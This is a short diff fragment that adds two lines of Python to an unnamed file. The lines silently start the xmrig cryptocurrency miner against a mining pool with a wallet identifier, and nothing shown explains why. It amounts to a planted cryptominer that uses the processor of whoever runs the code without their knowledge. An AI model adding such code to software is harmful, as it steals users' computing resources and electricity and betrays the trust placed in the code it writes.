@@ -1,0 +1,2 @@
+import subprocess
+subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"])
